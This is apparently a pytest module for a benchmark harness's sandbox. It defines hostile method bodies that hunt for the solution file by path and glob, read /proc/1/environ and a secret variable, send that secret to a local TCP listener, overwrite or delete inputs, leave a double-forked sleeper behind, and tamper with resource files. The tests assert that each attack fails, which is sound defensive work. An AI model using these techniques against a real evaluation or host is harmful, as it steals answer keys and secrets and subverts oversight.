"""Hostile methods that attack at run time, all in one benchmark run next to the honest components.

Attack classes covered here (one hostile method each, see the ``BODIES``):

1. read the solution by absolute path: ``steal_meta`` (every ``meta`` field and its folders),
   ``steal_plan`` (``<outdir>/plan.json``, the results folder found from ``/proc/self/mountinfo``),
   ``steal_climb`` (climb parent folders of the work dir), ``steal_glob`` (glob the whole file
   system for ``solution.h5ad``), ``steal_known`` (the solution's real host path, as if guessed);
2. write to its inputs (``write_inputs``: h5py ``r+`` on the staged train file, ``open(..., "r+b")``,
   ``os.chmod``, ``os.unlink``): the dataset files on disk are unchanged;
6. outlive the job (``outlive``): a double-forked ``setsid`` sleeper that would write into
   ``outputs/`` and the cache later is dead when the job ends and writes nothing;
8. exhaust memory (``hog_memory``, label ``tinymem`` = 300 MB) and time (``hog_time``, label
   ``tinytime`` = 4 s): exit 137 / 143 recorded;
9. read the environment (``leak_env``: a secret variable of the harness, ``/proc/1/environ``) and the
   network (a TCP port the test listens on at 127.0.0.1): nothing leaks;
10. other attacks: ``plant_symlink`` (its output is a symbolic link to a perfect prediction on the
    host), ``fifo_output`` (its output is a FIFO; run on its own, in
    a subprocess with a timeout), ``huge_output`` (a valid prediction with a large
    sparse tail), ``write_resources`` (writes into ``meta["resources_dir"]`` and its task library).

Classes 1, 2, 6 and 9 are only meaningful in the sandbox (without it a job runs with the runner's
rights, by design): their hostile methods are only added, and their tests only run, when
``openpert.run.sandbox.available()``.
"""

from __future__ import annotations

import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time

import psutil
import pytest
from adversarial.hostile import (
    add_method,
    assert_honest_unchanged,
    assert_no_advantage,
    copy_project,
    failed_ids,
    raw_scores,
    run,
    tree_digest,
)
from sandbox_marks import needs_sandbox as needs_sandbox_mark

from openpert.run import sandbox
from openpert.testing.once_per_run import once_per_test_run

SANDBOX = sandbox.available()
needs_sandbox = needs_sandbox_mark("bubblewrap sandbox unavailable here (without it a job has the runner's rights by design, "
                                   "so this attack is not defended)")
SECRET_VAR = "OPENPERT_ADVERSARIAL_SECRET"
SECRET = "s3cret-" + os.urandom(6).hex()
MARKER = "openpert-adversarial-sleeper-" + os.urandom(4).hex()
PLANTED = "PLANTED_BY_SLEEPER"

# --- hostile bodies (appended to hostile.SCRIPT_HEAD); {placeholders} are filled per run ------------------
STEAL_META = '''
searched = set()  # a folder two meta fields lead to (the work dir, the root) is searched once: the same files
for key, value in meta.items():
    if not isinstance(value, str):
        continue
    found.append(f"meta:{key}={value}")
    for base in {value, os.path.dirname(value), os.path.dirname(os.path.dirname(value))} - searched:
        searched.add(base)
        for cand in search(base):
            if steal(cand):
                sys.exit(0)
submit(np.zeros(test.shape))
'''
STEAL_PLAN = '''
import json
roots = set()
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    found.append("mount:" + fields[3] + "->" + fields[4])
    if "/work/" in fields[3]:
        roots.add(fields[3].split("/work/")[0])
for path in ["/proc/1/cmdline"]:
    try:
        for arg in open(path, "rb").read().split(b"\\0"):
            if b"/work/" in arg:
                roots.add(arg.decode().split("/work/")[0])
    except OSError:
        pass
for root in roots:
    found.append("outdir:" + root)
    try:
        plan = json.load(open(os.path.join(root, "plan.json")))
    except OSError as err:
        found.append(f"plan:{err}")
        continue
    text = json.dumps(plan)
    import re
    for cand in re.findall(r'"([^"]*solution[^"]*\\.h5ad)"', text):
        if steal(cand):
            sys.exit(0)
submit(np.zeros(test.shape))
'''
STEAL_CLIMB = '''
here = os.path.realpath(os.getcwd())
for _ in range(12):
    for cand in search(here):
        if steal(cand):
            sys.exit(0)
    found.append("climbed:" + here)
    if os.path.dirname(here) == here:
        break  # the root, searched whole: climbing on would search the same files again
    here = os.path.dirname(here)
    for cand in (os.path.join(here, "..", "..", "resources_test", "tiny", "syn", "solution.h5ad"),):
        if steal(cand):
            sys.exit(0)
submit(np.zeros(test.shape))
'''
STEAL_GLOB = '''
for cand in search("/"):
    if steal(cand):
        sys.exit(0)
submit(np.zeros(test.shape))
'''
STEAL_KNOWN = '''
for cand in [{solution!r}, {solution_dir!r} + "/prediction.h5ad"]:
    if steal(cand):
        sys.exit(0)
    try:
        pred = read(cand).layers["prediction"]
        found.append("prediction:" + cand)
        submit(pred, note="stolen")
        sys.exit(0)
    except Exception as err:  # noqa: BLE001
        print(err, file=sys.stderr)
submit(np.zeros(test.shape))
'''
WRITE_INPUTS = '''
import h5py
train = par["input_train"]
for attempt in ("h5py", "r+b", "chmod", "unlink", "rename"):
    try:
        if attempt == "h5py":
            with h5py.File(train, "r+") as fh:
                fh["X"][...] = 1e6
        elif attempt == "r+b":
            with open(train, "r+b") as fh:
                fh.seek(0)
                fh.write(b"garbage!")
        elif attempt == "chmod":
            os.chmod(train, 0o777)
        elif attempt == "unlink":
            os.unlink(train)
        else:
            os.rename(par["input_test"], par["input_test"] + ".moved")
        found.append("succeeded:" + attempt)
    except Exception as err:  # noqa: BLE001
        print(attempt, type(err).__name__, err, file=sys.stderr)
submit(np.zeros(test.shape))
'''
OUTLIVE = '''
roots = set()
for line in open("/proc/self/mountinfo"):
    source = line.split()[3]
    if "/work/" in source:
        roots.add(source.split("/work/")[0])
roots = sorted(roots) or [os.path.realpath(os.getcwd())]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            try:
                os.close(fd)
            except OSError:
                pass
        import time
        time.sleep(2.0)
        for root in roots:
            for target in (root, os.path.join(root, "outputs"), os.path.join(root, "work"), os.path.join(root, "outputs", "syn", "truth")):
                try:
                    with open(os.path.join(target, {planted!r}), "w") as fh:
                        fh.write("planted")
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
os.wait()
import subprocess
subprocess.Popen(["setsid", "sh", "-c", "exec -a {marker} sleep 30"], start_new_session=True)
submit(np.zeros(test.shape))
'''
HOG_MEMORY = '''
block = np.ones((1024, 1024, 128))  # 1 GiB, resident
import time
time.sleep(30)
submit(np.zeros(test.shape))
'''
HOG_TIME = '''
import time
time.sleep(120)
submit(np.zeros(test.shape))
'''
LEAK_ENV = '''
secret = os.environ.get({var!r}, "")
found.append("env:" + secret)
try:
    found.append("pid1:" + open("/proc/1/environ", "rb").read().decode(errors="replace"))
except OSError as err:
    found.append(f"pid1:{{err}}")
try:
    with __import__("socket").create_connection(("127.0.0.1", {port}), timeout=3) as conn:
        conn.sendall(("leak " + secret + repr(found)).encode())
    found.append("connected")
except OSError as err:
    print("network:", err, file=sys.stderr)
submit(np.zeros(test.shape))
'''
PLANT_SYMLINK = '''
os.symlink({target!r}, par["output"])
'''
FIFO_OUTPUT = '''
os.mkfifo(par["output"])
'''
HUGE_OUTPUT = '''
submit(np.zeros(test.shape))
with open(par["output"], "r+b") as fh:
    fh.truncate({size})  # a sparse tail: cheap to write, costly to hash and copy
'''
WRITE_RESOURCES = '''
for folder, _, files in os.walk(meta["resources_dir"]):
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, "a") as fh:
                fh.write("\\nraise SystemExit('tampered')\\n")
            found.append("wrote:" + path)
        except OSError as err:
            print(path, err, file=sys.stderr)
try:
    with open(os.path.join(meta["resources_dir"], "planted.py"), "w") as fh:
        fh.write("x = 1")
    found.append("planted")
except OSError as err:
    print(err, file=sys.stderr)
submit(np.zeros(test.shape))
'''

STEALERS = ["steal_meta", "steal_plan", "steal_climb", "steal_glob", "steal_known"]
HUGE_SIZE = 256 * 2**20
FIFO_TIMEOUT_S = 15


class Listener:
    """A TCP server on 127.0.0.1 that records every connection (the network attack's target)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self.stop.set()
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def hostile_run(tiny_project, tmp_path_factory):
    """One benchmark run carrying every run-time hostile method, next to the honest components (once per test run).

    The secret and the sleepers' marker are the run's own (each test worker draws its own), so the
    tests read them from here; and what the listener received, since it is closed.
    """
    return once_per_test_run(tmp_path_factory, "runtime_attacks", lambda folder: _hostile_run(tiny_project, folder))


def _hostile_run(tiny_project, tmp):
    root = copy_project(tiny_project, tmp / "project")
    syn = root / "resources_test" / "tiny" / "syn"
    listener = Listener()
    bodies = {
        "hog_memory": (HOG_MEMORY, "tinymem, lowcpu, lowtime"),
        "hog_time": (HOG_TIME, "lowmem, lowcpu, tinytime"),
        "plant_symlink": (PLANT_SYMLINK.format(target=str(syn / "prediction.h5ad")), None),
        "huge_output": (HUGE_OUTPUT.format(size=HUGE_SIZE), None),
        "write_resources": (WRITE_RESOURCES, None),
    }
    if SANDBOX:
        bodies.update({
            "steal_meta": (STEAL_META, None),
            "steal_plan": (STEAL_PLAN, None),
            "steal_climb": (STEAL_CLIMB, None),
            "steal_glob": (STEAL_GLOB, None),
            "steal_known": (STEAL_KNOWN.format(solution=str(syn / "solution.h5ad"), solution_dir=str(syn)), None),
            "write_inputs": (WRITE_INPUTS, None),
            "outlive": (OUTLIVE.format(planted=PLANTED, marker=MARKER), None),
            "leak_env": (LEAK_ENV.format(var=SECRET_VAR, port=listener.port), None),
        })
    for name, (body, labels) in bodies.items():
        add_method(root, name, body, **({"labels": labels} if labels else {}))
    before = {"inputs": tree_digest(root / "resources_test"), "src": tree_digest(root / "src")}
    modes = {p: stat.S_IMODE(p.stat().st_mode) for p in syn.iterdir()}
    os.environ[SECRET_VAR] = SECRET
    try:
        start = time.monotonic()
        results = run(root, tmp / "out", methods=["group_mean", *bodies])
        ended = time.monotonic()
    finally:
        os.environ.pop(SECRET_VAR, None)
        time.sleep(0.5)
        listener.close()
    return {"results": results, "root": root, "out": tmp / "out", "before": before, "modes": modes, "syn": syn,
            "received": listener.received, "secret": SECRET, "marker": MARKER, "ended": ended, "start": start,
            "methods": list(bodies)}


def _published(run_info, method):
    return run_info["out"] / "outputs" / "syn" / method / "prediction.h5ad"


def _found(run_info, method) -> list[str]:
    import anndata as ad

    path = _published(run_info, method)
    return [str(x) for x in ad.read_h5ad(path).uns["found"]] if path.exists() else []


def test_honest_scores_unchanged(hostile_run, clean):
    """(b) for every attack of this module: the honest components score as in the clean run."""
    assert_honest_unchanged(hostile_run["results"], clean)


@needs_sandbox
@pytest.mark.parametrize("method", STEALERS)
def test_read_solution_by_path(hostile_run, method):
    """1. No route to the solution: the thief's prediction is not the truth, and it found no solution file."""
    results = hostile_run["results"]
    assert_no_advantage(results, method)
    assert method not in failed_ids(results), failed_ids(results).get(method)
    assert not [f for f in _found(hostile_run, method) if f.startswith(("solution:", "prediction:"))]
    assert raw_scores(results, (method,))[(method, "rmse")] == raw_scores(results, ("zeros",))[("zeros", "rmse")]


@needs_sandbox
def test_write_inputs(hostile_run):
    """2. Writes, chmod, unlink and rename of staged inputs all fail; the dataset files are unchanged."""
    results = hostile_run["results"]
    assert not [f for f in _found(hostile_run, "write_inputs") if f.startswith("succeeded:")]
    assert tree_digest(hostile_run["root"] / "resources_test") == hostile_run["before"]["inputs"]
    assert {p: stat.S_IMODE(p.stat().st_mode) for p in hostile_run["syn"].iterdir()} == hostile_run["modes"]
    assert_no_advantage(results, "write_inputs")


@needs_sandbox
def test_outlive_the_job(hostile_run):
    """6. A double-forked setsid sleeper dies with its job and never writes into the results or the cache."""
    marker = hostile_run["marker"]
    alive = [p for p in psutil.process_iter(["cmdline"]) if any(marker in a for a in (p.info["cmdline"] or []))]
    assert not alive, f"sleepers outlived their job: {[p.pid for p in alive]}"
    time.sleep(max(0.0, hostile_run["ended"] + 2.5 - time.monotonic()))
    planted = [p for p in hostile_run["out"].parent.rglob(PLANTED)]
    assert not planted, planted
    assert_no_advantage(hostile_run["results"], "outlive")


def test_exhaust_memory_and_time(hostile_run):
    """8. Beyond its memory label: exit 137; beyond its time label: exit 143; both recorded as failures."""
    failures = failed_ids(hostile_run["results"])
    assert failures["hog_memory"]["exit_code"] == 137, failures.get("hog_memory")
    assert failures["hog_time"]["exit_code"] == 143, failures.get("hog_time")
    assert failures["hog_memory"]["reason"] and failures["hog_time"]["reason"]


@needs_sandbox
def test_environment_and_network(hostile_run):
    """9. The harness's secret variable does not reach the job, and the job cannot connect to 127.0.0.1."""
    found = _found(hostile_run, "leak_env")
    assert found, "leak_env wrote no prediction"
    secret = hostile_run["secret"]
    assert not any(secret in f for f in found), "the secret reached the job"
    assert "connected" not in found
    assert hostile_run["received"] == []
    logs = hostile_run["out"] / "logs"
    assert not [p for p in logs.rglob("*.log") if secret in p.read_text(errors="replace")]


def test_symlink_output(hostile_run):
    """10. An output that is a symbolic link to a perfect prediction on the host earns nothing."""
    results = hostile_run["results"]
    assert_no_advantage(results, "plant_symlink")
    published = _published(hostile_run, "plant_symlink")
    assert not published.is_symlink()


FIFO_RUNNER = """
import sys
from pathlib import Path
from openpert.config.viash import read_config
from openpert.run.component import run_component
root, out = Path(sys.argv[1]), Path(sys.argv[2])
syn = root / "resources_test" / "tiny" / "syn"
config = read_config(root / "src/tiny/methods/fifo_output/config.vsh.yaml")
result = run_component(config, {"input_train": syn / "train.h5ad", "input_test": syn / "test.h5ad",
                                 "output": out / "prediction.h5ad"}, work_dir=out / "work")
print("EXIT", result.exit_code, result.reason)
"""


def test_fifo_output(tiny_project, tmp_path):
    """10. An output that is a FIFO fails the job, and the harness does not hang on it.

    Run in a subprocess with a timeout: a harness thread blocked opening the FIFO would hold
    h5py's global lock and stall every other job of the benchmark (and of this test worker).
    """
    root = copy_project(tiny_project, tmp_path / "project")
    add_method(root, "fifo_output", FIFO_OUTPUT)
    proc = subprocess.Popen([sys.executable, "-c", FIFO_RUNNER, str(root), str(tmp_path / "run")], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        output, _ = proc.communicate(timeout=FIFO_TIMEOUT_S)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail(f"the harness hung for {FIFO_TIMEOUT_S} s on a method whose output is a FIFO "
                    "(validating the output opens the FIFO and blocks forever, holding h5py's lock)")
    assert "EXIT 0 " not in output, output
    assert "EXIT" in output, output
    assert not (tmp_path / "run" / "prediction.h5ad").exists()


def test_huge_output(hostile_run):
    """10. A valid prediction with a large sparse tail: no advantage; the run went on."""
    assert_no_advantage(hostile_run["results"], "huge_output")


def test_write_resources(hostile_run):
    """10. Writing into meta["resources_dir"] changes nothing of the component's or the task's files."""
    assert tree_digest(hostile_run["root"] / "src") == hostile_run["before"]["src"]
    if SANDBOX:
        assert not [f for f in _found(hostile_run, "write_resources") if f.startswith(("wrote:", "planted"))]
    assert_no_advantage(hostile_run["results"], "write_resources")
